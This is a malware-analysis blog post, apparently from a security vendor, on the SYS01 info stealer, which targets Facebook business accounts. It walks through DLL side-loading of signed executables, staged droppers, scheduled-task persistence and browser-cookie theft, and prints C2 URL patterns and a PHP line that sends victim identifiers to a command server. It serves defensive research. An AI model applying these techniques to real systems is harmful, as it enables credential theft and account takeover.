Cybersecurity Tech Investment Planning: Use annual loss expectancy to build a business case
arrow-white arrow-white Download now

How SYS01 Stealer Will Get Your Sensitive Facebook Info

Posted by Arnold Osipov on March 7, 2023
Find me on:

Starting in November 2022, Morphisec has been tracking an advanced info stealer we have named “SYS01 stealer.” SYS01 stealer uses similar lures and loading techniques to another information stealer recently dubbed S1deload by the Bitdefender group, but the actual payload (stealer) is different.

We have seen SYS01 stealer attacking critical government infrastructure employees, manufacturing companies, and other industries. The threat actors behind the campaign are targeting Facebook business accounts by using Google ads and fake Facebook profiles that promote things like games, adult content, and cracked software, etc. to lure victims into downloading a malicious file. The attack is designed to steal sensitive information, includinglogin data, cookies, and Facebook ad and business account information.

Zero Trust and Moving TargetDefense White Paper

The campaign was first seen in May 2022 and was initially attributed to the Ducktail operation by Zscaler. (This attribution was later discovered to be incorrect.) In this blog we explore the various methods used to distribute SYS01 stealer.

We show how the attacker advances the delivery chain and includes Rust, Python, PHP, and PHP advanced encoders to successfully evade security vendors over the past five months.

The Infection Chain

The attack begins by luring a victim to click on a URL from a fake Facebook profile or advertisement to download a ZIP file that pretends to have an application, game, movie, etc.

The infection chain is divided into two parts: the loader, and the Inno-Setup installer that drops the final payload. The loader is usually a legitimate C# application susceptible to a side-loading vulnerability that comes with a hidden malicious dynamic link library (DLL) file that’s eventually side-loaded to the application. This legitimate application drops the Inno-Setup installer that decompresses to a whole PHP application containing malicious scripts. The PHP scripts are responsible for stealing and exfiltrating information. The scripts are encoded using different techniques, which makes their analysis and detection harder.

This diagram shows a step-by-step of how the infection chain for SYS01 works.Infection chain

The Loader

We’ve seen the payload delivered in diverse ways including DLL side-loading, Rust and Python executables, and many others. All methods eventually drop an Inno-Setup installer which, at the next stage, drops and executes the PHP information stealer. In the next sections we elaborate on variousdelivery techniques and luring themes the attackers use.

Note: these delivery methods are representative samples. There are many other variations of these methods with minor modifications.

DLL Side-Loading V1

In this method, the victim downloads a zipped folder with different luring themes such as world cup live streaming, free applications, and more that abuse legitimate applications vulnerable to DLL side-loading attack. The zipped folder usually holds the following file patterns:

  1. Executable. A benign, legitimate executable abused to side-load the malicious DLL
  2. [A-Z]Data.dat (hidden). A ZIP or self extracting archive (SFX) containing legitimate HTML webpages used as a decoy
  3. [A-Z]License (hidden). The Inno-Setup installer to be executed (base64 encoded with some string modifications)
  4. DLL (hidden). The malicious side loaded DLL

Western Digital's WDSyncService.exe executable abused to side-load a malicious DLL Western Digital's WDSyncService.exe executable abused to side-load a malicious DLLThe malicious DLL has two main goals: displaying the decoy to the victim and executing the Inno-Setup installer. It does this by creating a thread that checks whether the License file exists. If it doesn’t, it downloads the file from its command and control (C2) server, then decodes and executes it. In the main thread the SFX/ZIP file is executed/decompressed, and the victim is shown the decoy HTML files.

Decoy dropped to the folder
Decoy dropped to the folder

In somesamples we noticed cases where the .dat and License files are not included in the zipped folder. Instead, they’re downloaded from the C2 using the following pattern:

  • https://<domain>/files/dld?t=wcup. Downloads the License file
  • https://<domain>/files/dlz?t=wcup. Downloads the .dat file as a ZIP
    • dld Download the License (base64 encoded with string replacements)
    • dlz Download .zip (.dat file with the decoys)
    • t Is the theme used as a decoy  Side loaded malicious DLL

Side loaded malicious DLL

As mentioned, the License file is the next stage Inno-Setupinstaller that drops the PHP information stealer.

DLL Side-Loading V2

In this method, the victim downloads a ZIP folder that purportedly contains an application or movie etc.

Garmin’s ElevatedInstaller.exe executable abused to side-load malicious DLLGarmin’s ElevatedInstaller.exe executable abused to side-load malicious DLL

The above image shows an example of Garmin’s ElevatedInstaller.exe being abused to side-load the malicious DLL. Once the executable starts running, it side-loads the malicious DLL that decodes and drops three files to the %temp% folder:

  1. vcruntime140.dll Dependency
  2. rhc.exe (hidec) Executable that accepts an executable as an argument and executes it with hidden console
  3. <[A-Z0-9]{15}>.exe Rust executable compiled with Cargo

Next, it creates a scheduled task that runs the Rust executable by passing it as an argument to rhc.exe. Before exiting, it pops up a message box informing the victim that the execution didn’t succeed.

 Dropping a Rust executable and popping a fake message box
 Dropping a Rust executable and popping a fake message box

The Rust executable then downloads the next stage—an Inno-Setup installer that deploys the PHP information stealer from <domain_name>/files?t=<theme_name>&tp=d.

We’ve also spotted similar delivery methods that dropped Python executables compiled with Nuitka instead of Rust to drop the next stage Inno-Setup

DLL Side-Loading V3

Similar to the other delivery methods, in this scenario a victim downloads what seems to be a game, movie, nude album, etc.

FUD ZIP file with malicious DLL
FUD ZIP file with malicious DLL

All the executables named as image files are in fact the same benign executable—WDSyncService.exe that is abused to side-load amalicious DLL named WDSync.dll.

Zipped folder with the sameexecutable file: WDSyncService.exe that side-loads WDSync.dll
Zipped folder with the same executable file: WDSyncService.exe that side-loads WDSync.dll

The WDSyncService.exe file is signed by Western Digital and acts as Western Digital’s sync service, which is written in C#. Additionally, this executable uses several shared libraries, including WDSync.dll which is hidden in the ZIP file and obfuscated with SmartAssembly. The rest of the DLLs WDSyncService.exe uses are compressed and encrypted within WDSync.dll using the embedding dependencies feature by SmartAssembly.

 WDSync.dll embeds legitimate DLLs using the SmartAssembly feature
 WDSync.dll embeds legitimate DLLs using the SmartAssembly feature

Once a victim has executed one of the executables from the ZIP folder, a fake message box pops up and alerts the user to install a “framework” to open the file.

Fake message box Fake message boxMeanwhile, a thread with malicious logic is executing. It starts with de-obfuscating the next stage (string replacements + base64 decoding) and writing it to a %tmp% folder under the hardcoded name TS.exe and executing it with “t” as an argument. Once the execution completes, the file is deleted to leave no evidence on the machine.

Drops ”TS.exe” and executes it with t as an argument
Drops ”TS.exe” and executes itwith t as an argument

The dropped executable (TS.exe) can be executed with one of the following options: t, d

 t|d options that the executable accepts
t|d options that the executable accepts

Option t copies the executable to %appdata%\Packages\TS.exe and registers a new scheduled task to trigger every day and repeat every hour with option “d” as an argument.

Creates a scheduled task to be executed with d as an argument
Creates a scheduled task to be executed with d as an argument

Option d checks if the file %localappdata%\m.txt exists. If it does, the program exits because it means the info stealer is already running on the machine. If the file does not exist, the executable decodes and drops the next stage Inno-Setup executable to %temp%\\<[A-Z]{15}.exe> and executes it with /VERYSILENT /SUPPRESSMSGBOXES /NORESTART as arguments. As before, when the execution finishes the file is deleted to remove evidence from the machine.

Drops next stage Inno-Setup executable
Drops next stage Inno-Setup executable

Inno-Setup to PHP Information StealerOnce the Inno-Setup installer executes, it drops a PHP application with additional files, usually to %localappdata\[A-Z]{4}\<version_number>. Between different variants of this information stealer, we saw the following files used to execute the malicious logic:

  • include.php Responsible for installing persistence via scheduled tasks
  • index.php Executes the main logic of the stealing act
  • version.php (embedded in index.php if it does not exist) Holds the stealer version
  • rhc.exe Hides the console window of started programs (hidec)
  • rss.txt (other variants have a different name) Base64 encoded string with several string replacements. Once decoded, this executable, written in Rust and compiled with Cargo, gets the current date and time, and decrypts Chromium-based browsers’ encryption key

In older variants the PHP scripts were not obfuscated in any manner. In newer variants we noticed commercial encoders ionCube and Zephir, which are self-written extensions that obfuscate the PHP scripts.

After dropping the folder, the Inno-Setup executable executes php.exe include.php, or passes this command line as an argument to rhc.exe

include.php registers two scheduled tasks:

  1. rhc.exe php.exe include.php
    rhc.exe php.exe index.php
  2. rhc.exe php.exe index.php

The first task is triggered at log-on. The second task is triggered every two minutes. The attacker must know the time to set it in the scheduled task. It does this by decoding therss.txt into an executable, adding a uniquid atthe end of the executable, and dropping it to %temp%\tmp\<uniqid>.exe. If for some reason the operation fails, this script gets the current date and time running: “wmic os get LocalDateTime /value”.

 createTS—creates scheduled task. createLG—creates scheduled task at logon  createTS—creates scheduled task. createLG—creates scheduled task at logon

index.php is the script where the stealing logic takes place. It starts by setting a configuration array with the following information:

  • version—Stealer version
  • b—Bot name (SYS01 is the bot name weve seen in all the variants we covered, which is why we named the php stealer SYS01)
  • tmpData—Path for saving temporarily used files
  • url_endpoint—A list of C2 domains

Configuration array Configuration array

During each execution, the script shuffles and randomly defines one of the domains to be used as the C2 in the entire script.

Next, the script creates a machine ID associated with the victim and saves it to %localappdata%\packages\m.txt for future executions. The machine ID is constructed by the following: uniqid() + _ + rand(111111, 999999). Later, it will call the getTask function that constructs the following URL

url= URL_ENDPOINT ."?a=http&dev=1&v={$config["version"]}&machine_id={$macID}&from={$config['b']}&tag={$tag}&uname={$uname}&mt={$time}&f=" . FORCE_TASK;

and issues a GET request to the C2 with information identifying the victim. The response is a Json object with zero or more tasks in it.

C2 response with tasks
C2 response with tasks

The main script routine goes over each task and acts accordingly. As seen in the main function there are five task types: get_ck_all, dlAR, upload, r, dl.

index.php main routine
index.php main routine

  1. get_ck_all Gets all cookies. Iterating over based_ch, which consists of a list of Chromium-based browser names. It tries to extract the cookies and login data for each browser name, and after extracting this information checks if the flag sendD (send data) is set to true. If so, it posts the stolen information to its C2. The attacker additionally checks whether the user has a Facebook account logged in or not. It does this by checking if the cookie hostname contains and collects the session specific cookies xs and c_user that store the user ID and session secret respectively.Extracting Facebook’s session cookies – xs and c_user
    Extracting Facebook’s session cookies – xs and c_user
    If the victim has a logged in Facebook account (checked with xs name in Facebook’s cookie), and the rs_flag (resource flag) is set to true, the attacker will query Facebook’s graph API using the access token, obtained via Facebook’s graphql API, to steal the victim’s Facebook information and send it back to the C2. The stolen information is that set as fields in the URL parameter:
    C2 response—Facebook's graph API used to access sensitive information
    C2 response—Facebook's graph API used to access sensitive information

      Extract victim’s sensitive Facebook data using the graph API and send the results to a C2 server   Extract victim’s sensitive Facebook data using the graph API and send the results to a C2 server

  2. dlAR Download and run. Downloads a file from the given URL and executes it with the given arguments.
    dlAR task
    dlAR task
    At the time of writing, in the given task the downloaded file was an Inno-Setup executable that dropped a legitimate WD Discovery app to side-load the malicious WDLocal.dll
      Western’s Digital WDDdiscovery.exe side-loads malicious WDLocal.dll   Western’s Digital WDDdiscovery.exe side-loads malicious WDLocal.dll

    The side-loaded DLL issues a GET request to one of its hardcoded URLs with parameters stating the old machine ID, new machineID, and the current version of the information stealer. The response is a Json object that holds the new version number, URL to download the new version, command to be executed, and arguments. The response is parsed, and the new stealer is downloaded and executed. Next, it creates a scheduled task that executes the updated routine, which triggers at log-on and every 30 minutes.
    Information Stealer update routine Information Stealer update routine
  3. upload Asks for a file to be uploaded to the C2, checks whether the file exists, and uploads it.
    Upload file function
    Upload file function
  4. r Gets a command to run, executes it, and posts the resultback to the C2.
    Gets command from C2 and executes it
    Gets commandfrom C2 and executes it
